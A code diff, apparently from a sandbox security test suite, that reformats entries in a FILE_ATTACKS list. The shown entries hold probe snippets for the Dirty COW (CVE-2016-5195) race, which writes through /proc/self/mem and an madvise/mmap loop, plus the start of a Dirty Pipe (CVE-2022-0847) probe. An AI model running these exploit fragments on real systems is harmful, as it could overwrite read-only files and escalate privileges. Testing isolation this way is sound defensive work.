@@ -130,9 +130,12 @@ export const FILE_ATTACKS: readonly Attack[] = [
           attempt(os.unlink, path)
       return {"reached": found} if found else "refused"`,
   }),
-  attack("shared-mapping", "A read-only file, written through a mapping or the memory of the process (CVE-2016-5195)", {
-    javascript: `return attempt(() => { const fd = sys.fs.openSync("/proc/self/mem", "r+"); return sys.fs.writeSync(fd, "x", 0); })`,
-    python: `
+  attack(
+    "shared-mapping",
+    "A read-only file, written through a mapping or the memory of the process (CVE-2016-5195)",
+    {
+      javascript: `return attempt(() => { const fd = sys.fs.openSync("/proc/self/mem", "r+"); return sys.fs.writeSync(fd, "x", 0); })`,
+      python: `
       import mmap
       def race():
           file = open(T["folder"] + "/open.txt", "rb")
@@ -144,7 +147,8 @@ export const FILE_ATTACKS: readonly Attack[] = [
               libc.madvise(ctypes.c_void_p(where & ~4095), 4096, 4)
               attempt(lambda: (mem.seek(where), mem.write(b"X")))
       return attempt(race)`,
-  }),
+    },
+  ),
   attack("dirty-pipe", "A read-only file, written through a pipe (CVE-2022-0847)", {
     python: `
       def go():
